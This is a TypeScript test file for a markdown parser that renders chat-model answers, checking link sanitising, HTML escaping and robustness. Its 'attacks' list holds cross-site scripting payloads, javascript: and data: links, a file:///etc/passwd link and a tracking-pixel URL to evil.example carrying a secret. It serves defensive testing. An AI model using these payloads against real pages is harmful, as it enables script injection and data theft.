import { describe, expect, it } from 'vitest';
import { parse_markdown, safe_href, type Block, type Inline } from './markdown';

function links(blocks: Block[]): string[] {
  const found: string[] = [];
  JSON.stringify(blocks, (_, value) => {
    if (value && value.kind === 'link') found.push(value.href);
    return value;
  });
  return found;
}

function words(blocks: Block[]): string {
  const of_inlines = (all: Inline[]): string =>
    all.map((each) => ('inside' in each ? of_inlines(each.inside) : 'text' in each ? each.text : '\n')).join('');
  return blocks
    .map((each) => {
      if (each.kind === 'list') return each.items.map((item) => words(item.blocks)).join('\n');
      if (each.kind === 'quote') return words(each.blocks);
      if (each.kind === 'table') return [each.head, ...each.rows].flat().map(of_inlines).join('|');
      if (each.kind === 'code') return each.text;
      return 'inside' in each ? of_inlines(each.inside) : '';
    })
    .join('\n');
}

const known_blocks = new Set(['paragraph', 'heading', 'code', 'quote', 'list', 'table', 'rule']);
const known_inlines = new Set(['text', 'code', 'strong', 'em', 'del', 'link', 'break']);

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <img src="https://evil.example/p.png"> text',
  '![pixel](https://evil.example/p.png?c=secret)',
  '![x](javascript:alert(1))',
  '[klik](javascript:alert(1))',
  '[klik](JaVaScRiPt:alert(1))',
  '[klik](java\nscript:alert(1))',
  '[klik](&#106;avascript:alert(1))',
  '[klik](data:text/html;base64,PHNjcmlwdD4=)',
  '[klik](vbscript:x)',
  '[klik](file:///etc/passwd)',
  '[klik](blob:https://x/y)',
  '[klik](/api/session)',
  '[klik](//evil.example)',
  '[klik](https://bank.dk@evil.example/)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<a href="javascript:alert(1)">x</a>',
  '<svg><style>@import "//evil.example"</style></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '```html\n<script>alert(1)</script>\n```',
  '`<b onmouseover=alert(1)>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
];

describe('what a model writes', () => {
  it.each(attacks)('has no dangerous address: %s', (text) => {
    for (const href of links(parse_markdown(text))) {
      expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(new URL(href).protocol);
      expect(new URL(href).username).toBe('');
    }
  });

  it.each(attacks)('becomes only elements this page knows: %s', (text) => {
    JSON.stringify(parse_markdown(text), (_, value) => {
      if (value && typeof value === 'object' && 'kind' in value) {
        expect(known_blocks.has(value.kind) || known_inlines.has(value.kind)).toBe(true);
      }
      return value;
    });
  });

  it('shows tags as the letters they are', () => {
    expect(words(parse_markdown('Se <script>alert(1)</script> her'))).toBe('Se <script>alert(1)</script> her');
    expect(words(parse_markdown('<div onclick="x()">hej</div>'))).toContain('<div onclick="x()">hej</div>');
  });

  it('shows a picture as a link, so that nothing is fetched', () => {
    const tree = parse_markdown('![Kort](https://example.dk/kort.png)');
    expect(links(tree)).toEqual(['https://example.dk/kort.png']);
    expect(words(tree)).toBe('Kort');
  });

  it('keeps the words of a refused link', () => {
    expect(words(parse_markdown('[klik her](javascript:alert(1))'))).toBe('klik her');
  });

  it('keeps ordinary links', () => {
    expect(links(parse_markdown('[KL](https://www.kl.dk/x?a=1&b=2) og <borger@kommune.dk> og https://os2.eu'))).toEqual([
      'https://www.kl.dk/x?a=1&b=2',
      'mailto:borger@kommune.dk',
      'https://os2.eu/',
    ]);
  });
});

describe('markdown', () => {
  it('reads tables, lists, tasks, code and line breaks', () => {
    const tree = parse_markdown('| A | B |\n|:--|--:|\n| 1 | 2 |\n\n- [x] ja\n- [ ] nej\n\n3. tre\n\n```ts\nlet a = "<b>";\n```\nlinje\nto');
    expect(tree.map((each) => each.kind)).toEqual(['table', 'list', 'list', 'code', 'paragraph']);
    expect(tree[0]).toMatchObject({ align: ['left', 'right'] });
    expect(tree[1]).toMatchObject({ items: [{ checked: true }, { checked: false }] });
    expect(tree[2]).toMatchObject({ ordered: true, start: 3 });
    expect(tree[3]).toEqual({ kind: 'code', language: 'ts', text: 'let a = "<b>";' });
    expect(words(tree)).toContain('linje\nto');
  });

  it('turns entities into letters once', () => {
    expect(words(parse_markdown('A &amp; B &lt;b&gt; &amp;lt; &#230; &#xD800; R&D \\*'))).toBe('A & B <b> &lt; æ \ufffd R&D *');
  });

  it('takes a number and a full stop for an answer, not for an empty list', () => {
    expect(parse_markdown('1000.')).toEqual([{ kind: 'paragraph', inside: [{ kind: 'text', text: '1000.' }] }]);
  });

  it('never skips a heading level', () => {
    const levels = (text: string) => parse_markdown(text).map((each) => (each.kind === 'heading' ? each.level : 0));
    expect(levels('### a\n\n# b\n\n#### c\n\n## d\n\n###### e')).toEqual([3, 3, 4, 4, 5]);
  });

  it('can be read at every moment of being written', () => {
    const text = '# Æ\n\n**fed _kursiv_** `kode` [link](https://a.dk)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nprint("x")\n```\n- [ ] x\n  - y\n> z';
    for (let end = 0; end <= text.length; end++) expect(() => parse_markdown(text.slice(0, end))).not.toThrow();
  });

  it('gives up on nesting before the stack does', () => {
    expect(() => parse_markdown('> '.repeat(200) + 'x')).not.toThrow();
    expect(() => parse_markdown('*_'.repeat(500) + 'x' + '_*'.repeat(500))).not.toThrow();
    expect(words(parse_markdown('> '.repeat(50) + 'dybt'))).toContain('dybt');
  });

  it('reads a long answer quickly', () => {
    const text = 'Et afsnit med **fed** tekst og `kode`, som er ret langt.\n\n'.repeat(2_000);
    const start = performance.now();
    parse_markdown(text);
    expect(performance.now() - start).toBeLessThan(2_000);
  });
});

describe('safe_href', () => {
  it('is null for what is not an address', () => {
    for (const href of ['', '#', 'x', '?a', '/c/1', 'javascript:', ' javascript:alert(1)', '\u0001javascript:alert(1)']) expect(safe_href(href)).toBeNull();
  });
});
